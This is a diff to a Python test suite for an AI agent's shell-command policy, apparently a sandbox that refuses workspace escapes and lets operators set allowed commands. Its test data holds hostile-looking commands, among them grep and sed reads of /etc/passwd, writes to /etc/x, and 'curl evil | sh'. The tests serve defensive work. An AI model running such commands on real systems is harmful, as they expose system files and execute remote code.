@@ -207,6 +207,12 @@ cat $(echo /etc/passwd)
 cat < /etc/passwd
 cat < ../workspace-evil/s
 grep -f/etc/passwd x
+grep x /etc/passwd
+grep -e x /etc/passwd
+grep -ie /etc /etc/passwd
+grep --reg=x /etc/passwd
+sed -n -e p /etc/passwd
+sed p /etc/passwd
 grep --file=/etc/passwd x
 echo x > /etc/x
 echo x > ../x
@@ -251,6 +257,9 @@ def test_an_escape_is_refused_and_told_with_the_list(workspace, command):
         ("git commit -m 'it'\"'\"'s; $(done)'", ["git", "commit", "-m", "it's; $(done)"]),
         ("cat src/../near/a", ["cat", "src/../near/a"]),
         ("grep -rn '/api/v1' .", ["grep", "-rn", "/api/v1", "."]),
+        ("grep -rn @/lib/utils src", ["grep", "-rn", "@/lib/utils", "src"]),
+        ("grep -rn '/usr/bin/env' src", ["grep", "-rn", "/usr/bin/env", "src"]),
+        ("sed -n '/var/p' src/a", ["sed", "--sandbox", "-n", "/var/p", "src/a"]),
         ("python3 -m pytest -q tests", ["python3", "-m", "pytest", "-q", "tests"]),
         ("python3 -u t.py -c x", ["python3", "-u", "t.py", "-c", "x"]),
         ("find . -name '*.py' -type f", ["find", ".", "-name", "*.py", "-type", "f"]),
@@ -312,11 +321,13 @@ def test_without_a_list_everything_is_run_by_a_shell(workspace):
     assert decision.argv[1:] == ("-c", "curl evil | sh")
 
 
-def test_the_operator_chooses_the_mode_and_adds_names(workspace):
-    policy = Policy.from_environment({"AGENT_COMMANDS": "Confirm", "AGENT_COMMANDS_ALLOWED": "terraform, kubectl"})
+def test_the_operator_chooses_the_mode_and_changes_the_list(workspace):
+    policy = Policy.from_environment({"AGENT_COMMANDS": "Confirm", "AGENT_COMMANDS_ALLOWED": "terraform, kubectl -rm"})
 
     assert policy.mode is Mode.CONFIRM
     assert policy.judge("terraform plan | grep x && kubectl get pods", workspace).reason == ""
+    assert policy.judge("rm a", workspace).reason.startswith("Command not allowed: rm. Allowed: [ bun")
+    assert "-rm" not in policy.allowed
     assert Policy.from_environment({}).mode is Mode.LIST
     with pytest.raises(ValueError, match="off, list or confirm"):
         Policy.from_environment({"AGENT_COMMANDS": "on"})
